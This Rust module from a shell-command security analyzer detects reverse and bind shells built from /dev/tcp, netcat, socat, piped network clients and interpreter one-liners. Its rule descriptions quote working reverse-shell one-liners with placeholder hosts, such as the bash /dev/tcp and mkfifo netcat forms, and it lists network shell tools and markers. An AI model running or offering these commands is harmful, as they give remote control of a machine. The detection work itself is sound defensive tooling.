//! Reverse and bind shells: a shell wired to `/dev/tcp`, netcat/ncat `-e`/`-c`, socat `exec:`,
//! a network client piped into or out of a shell (mkfifo and telnet loops, `openssl s_client`),
//! and interpreter one-liners that open a socket and hand it a shell. Also owns `inline_code`.

use super::clobber::push_once;
use super::{Family, Severity, Signal, Spec};
use crate::ir::{Analysis, Command, Redirect, Stdin, Via, Word};
use crate::programs::is_interpreter;
use crate::programs::SHELLS;

/// The family of every entry declared below.
const FAMILY: Family = Family::ReverseShell;

spec!(
    DEV_TCP_SHELL,
    "DEV_TCP_SHELL",
    Critical,
    "shell attached to a /dev/tcp network socket",
    "A shell or interpreter whose stdin, stdout or stderr is redirected to `/dev/tcp/HOST/PORT` or `/dev/udp/…` (`bash -i >& /dev/tcp/h/p 0>&1`), or to a descriptor that an earlier `exec N<>/dev/tcp/…` opened (`sh <&5 >&5`, `while read l; do $l >&5; done`). The classic bash reverse shell."
);
spec!(
    DEV_TCP_SOCKET,
    "DEV_TCP_SOCKET",
    High,
    "redirection to a /dev/tcp network socket",
    "A redirection to `/dev/tcp/…` or `/dev/udp/…` on a command that is not a shell (`echo x > /dev/tcp/h/80`, `exec 3<>/dev/tcp/h/80`): bash opens a raw network connection that no firewall-aware tool shows."
);
spec!(
    NETCAT_EXEC,
    "NETCAT_EXEC",
    Critical,
    "netcat executes a program for the network peer",
    "`nc`/`ncat`/`netcat` with `-e`, `-c`, `--exec`, `--sh-exec` or `--lua-exec` (in any option cluster or position): the peer gets a program's stdin and stdout, usually a shell."
);
spec!(
    SOCAT_EXEC,
    "SOCAT_EXEC",
    Critical,
    "socat connects a program to the network",
    "`socat` with an `exec:`/`system:` address and a network address (`tcp:`, `tcp-listen:`, `openssl:`, `udp:`…): a reverse or bind shell, often with a pty. A plain port forward (`socat tcp-listen:80 tcp:host:8080`) is not flagged."
);
spec!(
    NETWORK_PIPE_SHELL,
    "NETWORK_PIPE_SHELL",
    Critical,
    "network connection piped into or out of a shell",
    "A network client (`nc`, `ncat`, `telnet`, `socat`, `openssl s_client`) feeds a shell that reads commands from stdin, or a stdin-reading shell feeds a network client: `nc h p | sh`, `telnet h 1 | /bin/sh | telnet h 2`, the mkfifo loop `cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`, `sh -i < /tmp/s | openssl s_client -connect h:p > /tmp/s`."
);
spec!(
    SCRIPTED_REVERSE_SHELL,
    "SCRIPTED_REVERSE_SHELL",
    Critical,
    "interpreter one-liner connects a shell to the network",
    "Inline code (`python -c`, `perl -e`, `ruby -e`, `php -r`, `node -e`, `lua -e`, an awk program) that both opens a socket (`socket`, `TCPSocket`, `fsockopen`, `IO::Socket`, `net.Socket`, gawk `/inet/tcp`) and hands it a shell (`/bin/sh`, `pty.spawn`, `dup2`, `sh -i`, `|&`). Only the shell side is read here: the code text as a static string."
);

pub static SPECS: &[&Spec] = &[
    &DEV_TCP_SHELL,
    &DEV_TCP_SOCKET,
    &NETCAT_EXEC,
    &SOCAT_EXEC,
    &NETWORK_PIPE_SHELL,
    &SCRIPTED_REVERSE_SHELL,
];

const NETCATS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "pwncat",
];

/// Network clients whose stream can carry a shell session.
const NETWORK_CLIENTS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "telnet",
    "socat",
    "openssl",
    "pwncat",
    "cryptcat",
    "sbd",
];

const AWKS: &[&str] = &["awk", "gawk", "mawk", "nawk"];

pub fn detect(a: &Analysis, out: &mut Vec<Signal>) {
    let socket_fds = socket_descriptors(a);
    for (i, cmd) in a.commands.iter().enumerate() {
        dev_tcp(a, i, cmd, &socket_fds, out);
        if cmd.is(NETCATS) && netcat_executes(cmd) {
            push_once(out, &NETCAT_EXEC, i, cmd, cmd.text());
        }
        if cmd.is(&["socat"]) && socat_executes(cmd) {
            push_once(out, &SOCAT_EXEC, i, cmd, cmd.text());
        }
        network_pipe(a, i, cmd, out);
        if let Some(code) = inline_code(cmd) {
            if is_socket_shell_code(code) {
                push_once(out, &SCRIPTED_REVERSE_SHELL, i, cmd, code.to_string());
            }
        }
    }
}

fn is_socket_path(word: &Word) -> bool {
    word.value()
        .map(super::paths::normalize)
        .is_some_and(|p| p.starts_with("/dev/tcp/") || p.starts_with("/dev/udp/"))
}

/// File descriptors that `exec N<>/dev/tcp/…` (or `N>`/`N<`) opened in the text.
fn socket_descriptors(a: &Analysis) -> Vec<String> {
    a.commands
        .iter()
        .filter(|c| c.is(&["exec"]))
        .flat_map(|c| c.redirects.iter())
        .filter(|r| is_socket_path(&r.target))
        .filter_map(|r| r.fd.map(|fd| fd.to_string()))
        .collect()
}

/// True for a command that runs what arrives on a stream: a shell or interpreter, or a command
/// word only known at run time (`$line`).
fn runs_commands(cmd: &Command) -> bool {
    match cmd.base() {
        Some(base) => SHELLS.contains(&base) || is_interpreter(base),
        None => !cmd.name.raw.is_empty(),
    }
}

fn duplicates_socket(r: &Redirect, socket_fds: &[String]) -> bool {
    matches!(r.op.as_str(), "<&" | ">&" | "&>" | "<>")
        && r.target
            .value()
            .is_some_and(|t| socket_fds.iter().any(|fd| fd == t))
}

/// The redirections in force for `cmd`: its own and those of the wrappers and shells it was
/// unwrapped from (`nohup bash -i >& /dev/tcp/…` redirects the `bash` too).
fn redirects_in_force<'a>(a: &'a Analysis, cmd: &'a Command) -> Vec<&'a Redirect> {
    let mut all: Vec<&Redirect> = cmd.redirects.iter().collect();
    let mut outer = cmd.context.wrapped_by;
    let mut hops = 0;
    while let Some(w) = outer.and_then(|j| a.commands.get(j)) {
        if hops > a.commands.len() || w.context.via.iter().any(|v| matches!(v, Via::Remote(_))) {
            break;
        }
        all.extend(w.redirects.iter());
        outer = w.context.wrapped_by;
        hops += 1;
    }
    all
}

fn dev_tcp(a: &Analysis, i: usize, cmd: &Command, socket_fds: &[String], out: &mut Vec<Signal>) {
    let redirects = redirects_in_force(a, cmd);
    let direct = redirects.iter().find(|r| is_socket_path(&r.target));
    let via_fd = redirects.iter().find(|r| duplicates_socket(r, socket_fds));
    let stdin_socket = matches!(&cmd.stdin, Stdin::File(w) if is_socket_path(w));
    if runs_commands(cmd) && (direct.is_some() || via_fd.is_some() || stdin_socket) {
        let evidence = direct
            .or(via_fd)
            .map(|r| r.target.shown.clone())
            .unwrap_or_default();
        push_once(out, &DEV_TCP_SHELL, i, cmd, evidence);
    } else if let Some(r) = cmd.redirects.iter().find(|r| is_socket_path(&r.target)) {
        push_once(out, &DEV_TCP_SOCKET, i, cmd, r.target.shown.clone());
    }
}

/// `-e prog`, `-c cmd`, `--exec`, `--sh-exec`, `--lua-exec` anywhere in the arguments.
fn netcat_executes(cmd: &Command) -> bool {
    cmd.arg_values().any(|v| {
        if let Some(long) = v.strip_prefix("--") {
            let name = long.split('=').next().unwrap_or(long);
            return matches!(name, "exec" | "sh-exec" | "lua-exec");
        }
        // `-e prog`, `-lvpe prog`, `-e/bin/sh`: the letters before any attached value.
        v.strip_prefix('-').is_some_and(|cluster| {
            let letters: String = cluster
                .chars()
                .take_while(char::is_ascii_alphabetic)
                .collect();
            letters.contains(['e', 'c'])
        })
    })
}

fn socat_executes(cmd: &Command) -> bool {
    let addresses: Vec<String> = cmd
        .arg_values()
        .filter(|v| !v.starts_with('-') || v.len() == 1)
        .map(str::to_ascii_lowercase)
        .collect();
    let program = addresses
        .iter()
        .any(|a| a.starts_with("exec:") || a.starts_with("system:"));
    let network = addresses.iter().any(|a| {
        let kind = a.split([':', ',']).next().unwrap_or_default();
        kind.starts_with("tcp")
            || kind.starts_with("udp")
            || kind.starts_with("sctp")
            || kind.starts_with("openssl")
            || kind.starts_with("ssl")
            || kind.starts_with("socks")
            || kind.starts_with("proxy")
    });
    program && network
}

/// True for a shell (or interpreter) that reads its commands from stdin or a terminal: no
/// `-c`, no script operand (or `-s`/`-i`).
pub fn shell_reads_stdin(cmd: &Command) -> bool {
    let Some(base) = cmd.base() else { return false };
    if SHELLS.contains(&base) {
        let letters = cmd.short_flags();
        return !letters.contains('c')
            && (cmd.operands().is_empty() || letters.contains('s') || letters.contains('i'));
    }
    is_interpreter(base) && inline_code(cmd).is_none() && cmd.operands().is_empty()
}

fn is_network_client(cmd: &Command) -> bool {
    match cmd.base() {
        Some("openssl") => cmd.args.first().and_then(Word::value) == Some("s_client"),
        Some(_) => cmd.is(NETWORK_CLIENTS),
        None => false,
    }
}

fn network_pipe(a: &Analysis, i: usize, cmd: &Command, out: &mut Vec<Signal>) {
    let (reads_shell, network) = (shell_reads_stdin(cmd), is_network_client(cmd));
    if !reads_shell && !network {
        return;
    }
    let upstream: Vec<&Command> = a
        .upstream(cmd)
        .iter()
        .filter_map(|&j| a.commands.get(j))
        .collect();
    let shell_fed_by_network = reads_shell && upstream.iter().any(|c| is_network_client(c));
    let network_fed_by_shell = network && upstream.iter().any(|c| shell_reads_stdin(c));
    if shell_fed_by_network || network_fed_by_shell {
        push_once(out, &NETWORK_PIPE_SHELL, i, cmd, cmd.text());
    }
}

/// The static inline code of an interpreter (`python -c CODE`, `perl -e`, `ruby -e`, `php -r`,
/// `node -e`, `lua -e`) or an awk program.
pub fn inline_code(cmd: &Command) -> Option<&str> {
    let base = cmd.base()?;
    if cmd.is(AWKS) {
        if cmd
            .option_args()
            .any(|o| o == "-f" || o.starts_with("--file"))
        {
            return None;
        }
        let program = super::clobber::operands_skipping(cmd, "vFf", &["assign", "field-separator"]);
        return program.first().and_then(|w| w.value());
    }
    if !is_interpreter(base) {
        return None;
    }
    let letters: &[char] = if base.starts_with("python") {
        &['c']
    } else if base == "php" {
        &['r']
    } else {
        &['e', 'E']
    };
    let mut words = cmd.args.iter();
    while let Some(w) = words.next() {
        let v = w.value()?;
        if v == "--" || !v.starts_with('-') {
            return None;
        }
        if v == "--eval" || v == "--print" {
            return words.next().and_then(Word::value);
        }
        if !v.starts_with("--") && v.ends_with(letters) {
            return words.next().and_then(Word::value);
        }
    }
    None
}

const SOCKET_MARKERS: &[&str] = &[
    "socket",
    "TCPSocket",
    "fsockopen",
    "IO::Socket",
    "net.connect",
    "net.Socket",
    "require('net')",
    "require(\"net\")",
    "stream_socket_client",
    "/inet/tcp/",
    "/inet/udp/",
    "/dev/tcp/",
    "Socket.new",
    "socket.tcp",
];

const SHELL_MARKERS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "/bin/dash",
    "sh -i",
    "bash -i",
    "pty.spawn",
    "dup2",
    "fdopen",
    "\"sh\"",
    "'sh'",
    "\"bash\"",
    "'bash'",
    "cmd.exe",
    "|&",
];

fn is_socket_shell_code(code: &str) -> bool {
    SOCKET_MARKERS.iter().any(|m| code.contains(m))
        && SHELL_MARKERS.iter().any(|m| code.contains(m))
}
